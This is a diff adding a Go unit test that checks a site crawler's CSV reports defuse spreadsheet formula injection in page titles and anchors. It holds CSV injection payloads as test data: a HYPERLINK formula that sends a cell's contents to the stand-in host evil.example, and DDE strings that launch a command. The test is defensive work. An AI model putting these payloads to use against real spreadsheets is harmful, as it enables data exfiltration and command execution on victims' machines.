@@ -267,3 +267,56 @@ func TestHugeLinkDepthIgnored(t *testing.T) {
 		t.Errorf("depth table %v; want one page at depth 0", r.Depth)
 	}
 }
+
+// No CSV cell begins with what a spreadsheet takes for a formula: a
+// crawled site's title and anchors are written as text (OWASP's
+// single-quote prefix), the payloads of issue 22 among them.
+func TestCSVInjectionDefused(t *testing.T) {
+	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3`, "\t=1+1", "\r=1+1"}
+	var inv, links strings.Builder
+	for i, p := range payloads {
+		u := fmt.Sprintf("https://ex.test/%d", i)
+		b, _ := json.Marshal(map[string]any{"url": u, "status": 200, "content_type": "text/html", "title": p, "link_depth": 0})
+		inv.Write(append(b, '\n'))
+		b, _ = json.Marshal(map[string]any{"url": u + "/x", "status": 404})
+		inv.Write(append(b, '\n'))
+		b, _ = json.Marshal(map[string]any{"from": u, "to": u + "/x", "kind": "a", "anchor": p})
+		links.Write(append(b, '\n'))
+	}
+	// Two pages with each title, so that titles.csv lists them as duplicates.
+	r, err := Build(Inputs{Inventory: strings.NewReader(inv.String() + strings.ReplaceAll(inv.String(), "ex.test", "ex.test/dup")),
+		Links: strings.NewReader(links.String())}, Names{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	if err := WriteCSV(dir, r); err != nil {
+		t.Fatal(err)
+	}
+	seen := map[string]int{}
+	for _, name := range []string{"titles", "broken"} {
+		f, err := os.Open(filepath.Join(dir, name+".csv"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(f).ReadAll()
+		f.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range rows {
+			for _, c := range row {
+				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+					t.Errorf("%s.csv: cell %q begins a formula", name, c)
+				}
+				seen[c]++
+			}
+		}
+	}
+	for _, p := range payloads {
+		if seen["'"+p] == 0 {
+			t.Errorf("payload %q not written as '%s", p, p)
+		}
+	}
+}
